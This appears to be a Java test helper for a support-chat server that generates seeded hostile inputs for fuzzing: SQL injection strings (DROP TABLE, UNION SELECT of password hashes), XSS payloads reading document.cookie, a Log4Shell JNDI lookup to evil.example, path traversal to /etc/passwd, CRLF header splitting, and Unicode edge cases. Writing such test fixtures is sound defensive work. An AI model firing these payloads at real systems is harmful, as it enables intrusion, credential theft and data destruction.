package dev.supportchat.security;

import java.util.List;
import java.util.SplittableRandom;

/**
 * A seeded source of strings that have broken servers before: SQL and HTML injection, Unicode edge
 * cases (lone surrogates, NUL, BOM, direction overrides, non-characters, combining storms), huge
 * and empty strings, ids that look valid, traversal and header-splitting attempts. The same seed
 * gives the same strings.
 */
final class HostileStrings {
  static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE messages; --",
          "\" OR 1=1 --",
          "1; SELECT pg_sleep(5)--",
          "x' UNION SELECT password_hash, email FROM users --",
          "%' OR content LIKE '%",
          "\\'; --",
          "$1",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(document.cookie)>",
          "javascript:alert(1)",
          "\"><svg/onload=alert(1)>",
          "{{7*7}}",
          "${jndi:ldap://evil.example/a}",
          "%s%s%s%n",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "line\r\nSet-Cookie: owned=1",
          "__proto__",
          "constructor",
          "null",
          "undefined",
          "[object Object]",
          "{\"$gt\":\"\"}",
          "NaN",
          "-0",
          "1e309",
          "0x7fffffff");
  static final List<String> UNICODE_EDGES =
      List.of(
          "\uD800",
          "\uDFFF",
          "lone \uD83D high",
          "lone \uDE00 low",
          "\u0000",
          "nul\u0000inside",
          "\uFEFFbom",
          "\u202Eevil\u202C",
          "zero\u200Bwidth\u200D",
          "\uFFFF\uFFFE",
          "\uDBFF\uDFFF",
          "\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDCBB",
          "e" + "\u0301".repeat(500),
          "\u00A0\u2028\u2029",
          "\t\n\r",
          "\u0085",
          "\u001B[31mred",
          "\u0008\u007F",
          "Ω≈ç√∫˜µ≤≥÷",
          "田中さんにあげて下さい",
          "مرحبا",
          "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
          "   ",
          "");

  private final SplittableRandom random;

  HostileStrings(SplittableRandom random) {
    this.random = random;
  }

  String next() {
    return random.nextInt(8) == 0 ? huge() : small();
  }

  /**
   * As {@link #next()} without the huge ones: for URLs, which the server refuses as a whole above 8
   * KB.
   */
  String small() {
    return switch (random.nextInt(6)) {
      case 0, 1 -> pick(INJECTIONS);
      case 2, 3 -> pick(UNICODE_EDGES);
      case 4 -> pick(INJECTIONS) + pick(UNICODE_EDGES) + pick(INJECTIONS);
      case 5 -> random.nextBoolean() ? lookAlikeId() : randomChars(1 + random.nextInt(40));
      default -> throw new IllegalStateException();
    };
  }

  /**
   * A string a server should store as it is: injections and odd but valid Unicode, nothing empty.
   */
  String storable() {
    String s =
        switch (random.nextInt(4)) {
          case 0 -> pick(INJECTIONS);
          case 1 -> "Ω≈ç √∫ \uD83D\uDE00 田中 " + pick(INJECTIONS);
          case 2 -> "\u202Eevil\u202C <b>bold</b> e\u0301";
          default -> pick(INJECTIONS) + " " + pick(INJECTIONS);
        };
    return s.isBlank() ? "x" + s : s;
  }

  /**
   * Between 10,000 and 300,000 characters: over the message limit, sometimes over the request
   * limit.
   */
  String huge() {
    return pick(List.of("A", "é", "\uD83D\uDE00", "'", "<"))
        .repeat(10_000 + random.nextInt(100_000));
  }

  /** 24 hex digits like a real id, or almost. */
  String lookAlikeId() {
    StringBuilder b = new StringBuilder();
    int length = random.nextInt(4) == 0 ? 23 + random.nextInt(3) : 24;
    for (int i = 0; i < length; i++) {
      b.append("0123456789abcdefABCDEF".charAt(random.nextInt(random.nextInt(5) == 0 ? 22 : 16)));
    }
    return b.toString();
  }

  /** Any UTF-16 code units at all, surrogates and controls included. */
  String randomChars(int length) {
    StringBuilder b = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      b.append((char) (random.nextBoolean() ? random.nextInt(0x80) : random.nextInt(0x10000)));
    }
    return b.toString();
  }

  /** Printable ASCII only: what an HTTP header (a bad bearer token) can carry. */
  String headerSafe() {
    String s =
        random.nextBoolean() ? pick(INJECTIONS) : "eyJhbGciOiJub25lIn0." + lookAlikeId() + ".";
    return s.replaceAll("[^\\x20-\\x7E]", "");
  }

  <T> T pick(List<T> options) {
    return options.get(random.nextInt(options.size()));
  }

  SplittableRandom random() {
    return random;
  }
}
